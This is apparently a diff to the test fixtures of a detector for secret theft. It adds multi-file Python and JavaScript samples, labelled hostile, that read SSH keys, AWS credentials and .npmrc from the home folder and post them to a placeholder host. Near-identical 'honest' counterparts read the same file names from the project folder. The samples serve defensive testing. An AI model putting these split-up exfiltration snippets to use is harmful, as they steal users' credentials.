@@ -80,6 +80,29 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "  return Keypair.fromSecretKey(secretKey);\n};\n",
             line=3,
         ),
+        "another file has the session, and the places": Sample(
+            {
+                "app.py": "from net import session\nfrom places import ALL\nimport os\nfor place in ALL:\n"
+                "    session.post('https://a.invalid', data=open(os.path.expanduser(place)).read())\n",
+                "net.py": "import requests\nsession = requests.Session()\n",
+                "places.py": "ALL = ['~/.ssh/id_rsa', '~/.aws/credentials']\n",
+            },
+            "block",
+            ("app.py", 5),
+        ),
+        "one file has the places, one the home folder, one the way out": Sample(
+            {
+                "app.js": "const all = require('./all'), read = require('./read');\n"
+                "read(all.files).then((found) =>\n  require('got').post('https://a.invalid', { json: found }));\n",
+                "all.js": "module.exports = { name: 'a', files: ['.ssh/id_rsa', '.npmrc'] };\n",
+                "read.js": "const fs = require('fs/promises'), os = require('os'), path = require('path');\n"
+                "module.exports = async function (files) {\n  const found = {};\n  for (const file of files) {\n"
+                "    found[file] = await fs.readFile(path.resolve(os.homedir(), file), 'utf8');\n  }\n"
+                "  return found;\n};\n",
+            },
+            "block",
+            ("app.js", 3),
+        ),
         "a key posted to a server": py(
             "import requests\ndef backup(private_key):\n    requests.post('https://a.invalid', json=private_key)\n",
             "review",
@@ -147,6 +170,21 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a secret key of another kind": {
             "app.js": "exports.verify = (secretKey, token) => fetch('https://a.invalid/verify', {\n"
             "  method: 'POST', body: new URLSearchParams({ secret: secretKey, response: token }) });\n"
+        },
+        "another file has the session, and places of the project": {
+            "app.py": "from net import session\nfrom places import ALL\nimport os\nfor place in ALL:\n"
+            "    session.post('https://a.invalid', data=open(os.path.join('docs', place)).read())\n",
+            "net.py": "import requests\nsession = requests.Session()\n",
+            "places.py": "ALL = ['.ssh/id_rsa', '.aws/credentials']\n",
+        },
+        "one file has the places, one the project's folder, one the way out": {
+            "app.js": "const all = require('./all'), read = require('./read');\n"
+            "read(all.files).then((found) =>\n  require('got').post('https://a.invalid', { json: found }));\n",
+            "all.js": "module.exports = { name: 'a', files: ['.ssh/id_rsa', '.npmrc'] };\n",
+            "read.js": "const fs = require('fs/promises'), path = require('path');\n"
+            "module.exports = async function (files) {\n  const found = {};\n  for (const file of files) {\n"
+            "    found[file] = await fs.readFile(path.resolve(__dirname, file), 'utf8');\n  }\n"
+            "  return found;\n};\n",
         },
         "an address mailed": {
             "app.py": "import smtplib\ndef backup(private_key):\n    address = to_address(private_key)\n"
